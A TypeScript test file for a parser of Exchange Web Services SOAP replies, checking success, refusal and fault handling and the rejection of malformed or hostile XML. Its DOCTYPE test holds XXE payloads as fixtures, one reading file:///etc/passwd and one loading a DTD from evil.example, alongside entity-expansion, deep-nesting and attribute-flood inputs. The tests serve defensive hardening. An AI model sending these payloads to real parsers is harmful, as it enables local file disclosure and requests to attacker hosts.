// The reader of EWS answers: Exchange's forms, and everything that XML can be misused for.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseEwsReply } from '../../../src/probes/ewsReply.ts';
import { backOffXml, faultXml, inboxXml, refusalXml } from '../../support/httpServer.ts';

const problemOf = (body: string): string => {
  const parsed = parseEwsReply(body);
  return parsed.kind === 'problem' ? parsed.problem : JSON.stringify(parsed.reply);
};

const envelope = (inner: string): string =>
  `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${inner}</s:Body></s:Envelope>`;

test('reads success with the number of items', () => {
  assert.deepEqual(parseEwsReply(inboxXml), {
    kind: 'reply',
    reply: { responseCode: 'NoError', responseClass: 'Success', text: '', totalCount: 7 },
  });
});

test('reads a refusal inside the answer and its back-off time', () => {
  assert.deepEqual(parseEwsReply(refusalXml('ErrorServerBusy', 'Try &amp; wait', backOffXml)), {
    kind: 'reply',
    reply: { responseCode: 'ErrorServerBusy', responseClass: 'Error', text: 'Try & wait', backOffMs: 4321 },
  });
});

test('reads a fault, also one without detail', () => {
  const fault = faultXml('ErrorImpersonateUserDenied', 'No right.');
  assert.deepEqual(parseEwsReply(fault), {
    kind: 'reply',
    reply: { responseCode: 'ErrorImpersonateUserDenied', text: 'No right.' },
  });
  const bare = parseEwsReply(fault.replace(/<detail>.*<\/detail>/, ''));
  assert.equal(bare.kind === 'reply' && bare.reply.responseCode, 'ErrorImpersonateUserDenied');
});

test('the first response code counts, and none outside the body', () => {
  const two = envelope('<ResponseCode>ErrorA</ResponseCode><ResponseCode>NoError</ResponseCode>');
  assert.doesNotMatch(problemOf(two), /"NoError"/);
  const header = `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header><ResponseCode>NoError</ResponseCode></s:Header><s:Body/></s:Envelope>`;
  assert.match(problemOf(header), /"responseCode":""/);
});

test('refuses DOCTYPE in every form', () => {
  const body = envelope('<ResponseCode>&x;</ResponseCode>');
  for (const doctype of [
    '<!DOCTYPE s [<!ENTITY x "BOOM">]>',
    '<!DOCTYPE s SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE s [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    `<!DOCTYPE s [<!ENTITY a "${'x'.repeat(10_000)}">]>`,
  ]) {
    assert.equal(problemOf(doctype + body), 'doctype', doctype.slice(0, 40));
  }
});

test('HTML, JSON, text and nothing are not SOAP', () => {
  for (const body of [
    '<!DOCTYPE html><html></html>',
    '<html><body><br></body></html>',
    '{"error":{}}',
    'Service unavailable',
    '',
    '<Envelope><Body/></Envelope>',
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body/></s:Envelope>',
    '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"/>',
  ]) {
    assert.equal(problemOf(body), 'notSoap', body);
  }
});

test('refuses depth, attributes, foreign encodings, broken and cut-off XML', () => {
  assert.equal(problemOf(envelope('<a>'.repeat(65))), 'depth');
  const attributes = Array.from({ length: 16_000 }, (_, index) => `a${index}="x"`).join(' ');
  assert.equal(problemOf(envelope(`<a ${attributes}/>`)), 'malformed');
  assert.equal(problemOf(`<?xml version="1.0" encoding="utf-16"?>${envelope('')}`), 'malformed');
  assert.equal(problemOf(envelope('<a></b>')), 'malformed');
  assert.equal(problemOf(inboxXml.slice(0, -40)), 'malformed');
  assert.equal(problemOf(envelope('<ResponseCode>&undeclared;</ResponseCode>')), 'malformed');
});

test('takes CDATA and numeric references as text, floods of them only up to a bound', () => {
  const text = envelope('<MessageText><![CDATA[<ResponseCode>NoError</ResponseCode>]]>&#8211;</MessageText>');
  assert.match(problemOf(text), /"text":"<ResponseCode>NoError<\/ResponseCode>–"/);
  const flood = parseEwsReply(envelope(`<MessageText>${'&#65;'.repeat(40_000)}</MessageText>`));
  assert.ok(flood.kind === 'reply' && flood.reply.text.length <= 8_000);
});
